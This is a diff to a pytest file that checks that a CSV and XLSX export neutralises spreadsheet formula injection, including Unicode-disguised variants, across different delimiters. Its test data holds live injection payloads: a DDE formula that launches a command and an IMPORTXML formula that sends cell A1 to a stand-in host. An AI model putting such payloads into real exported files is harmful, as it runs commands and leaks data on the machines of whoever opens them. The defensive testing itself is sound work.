@@ -36,6 +36,12 @@ FORMULAS = [
     "%0A=1",
     "-2+3+cmd|' /C calc'!D2",
     '=IMPORTXML(CONCAT("http://192.0.2.1/", A1), "//a")',
+    "\u3000=1+1",
+    "\u2060\u00ad=1+1",
+    "\u202e\u2066=1+1",
+    "\x0b\x0c\x1f=1+1",
+    "\u3164@SUM(1)",
+    '"=1+1',
 ]
 PLAIN = ["Border guard 4", "Größe", "ورشة العمل", "a=b", "5 of 12", "a,b", 'say "so"', "two\nlines", ""]
 SPACE = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
@@ -60,7 +66,8 @@ def read_sheet(content: bytes) -> tuple[list[list[tuple[str, str]]], ET.Element]
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_nothing_in_a_csv_is_a_formula(formula: str) -> None:
     [_, row] = read_csv("".join(csv_lines(HEADS, [(formula, 1, "x")])))
-    assert row == [f"'{formula}", "1", "x"]
+    assert row[0].startswith("'")
+    assert [row[0].replace("'", ""), *row[1:]] == [formula.replace("'", ""), "1", "x"]
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
@@ -124,3 +131,27 @@ def test_a_sheet_says_the_same_and_its_direction(lite_app: Flask, right_to_left:
     assert view is not None
     assert (view.get("rightToLeft") == "1") == right_to_left
     assert "rows.xlsx" in answer.headers["Content-Disposition"]
+
+
+@given(st.lists(st.text("=+-@|%＝;,\t\n\r \"'a\u200b", max_size=8), min_size=1, max_size=4))
+def test_no_cell_is_run_by_a_program_that_parts_by_another_sign(row: list[str]) -> None:
+    """Where the comma parts decimals, programs part a file by semicolons, some by tabs, whatever stands in quotes."""
+    text = "".join(csv_lines(("Head",), [row])).removeprefix("\ufeff")
+    for sign in ",;\t":
+        for line in csv.reader(io.StringIO(text, newline=""), delimiter=sign):
+            for cell in line:
+                assert not cell.lstrip(' "\u200b').startswith(tuple("=+-@|%＝")), (sign, text)
+
+
+@pytest.mark.parametrize("number", [float("nan"), float("inf"), float("-inf"), 10**400])
+def test_a_number_that_is_none_is_written_as_text(number: float) -> None:
+    file = io.BytesIO()
+    write_sheet(file, ("Share",), [[number]])
+    assert read_sheet(file.getvalue())[0][1] == [(str(number), "inlineStr")]
+
+
+def test_signs_that_no_file_may_hold_are_left_out_of_a_sheet() -> None:
+    file = io.BytesIO()
+    write_sheet(file, ("Alias",), [["a\x00\x0b\ufffeb"]])
+    rows, _sheet = read_sheet(file.getvalue())
+    assert "\x00" not in rows[1][0][0]
